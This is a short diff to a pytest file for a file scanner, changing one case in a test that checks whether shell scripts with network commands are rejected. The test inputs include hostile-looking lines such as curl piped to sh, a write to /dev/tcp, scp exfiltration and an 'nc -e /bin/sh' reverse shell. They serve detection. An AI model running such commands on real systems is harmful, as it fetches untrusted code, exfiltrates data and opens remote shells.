@@ -52,7 +52,7 @@ def test_any_shell_script_escalates() -> None:
 
 @pytest.mark.parametrize("line", ["curl -s https://e | sh", "wget -q https://e/x", "cat /data/x > /dev/tcp/1.2.3.4/80",
                                   "echo x | base64 -d > y", "scp /data/x me@h:/", "nc -e /bin/sh 1.2.3.4 4444",
-                                  "pip install foo", "git clone https://e/r"])
+                                  "pip install -i https://e/simple foo", "git clone https://e/r"])
 def test_network_in_shell_script_rejects(line: str) -> None:
     report = scan_bytes("run.sh", f"#!/bin/sh\n{line}\n".encode())
     assert "files.shell-network" in rules(report) and report.decision.value == "reject"
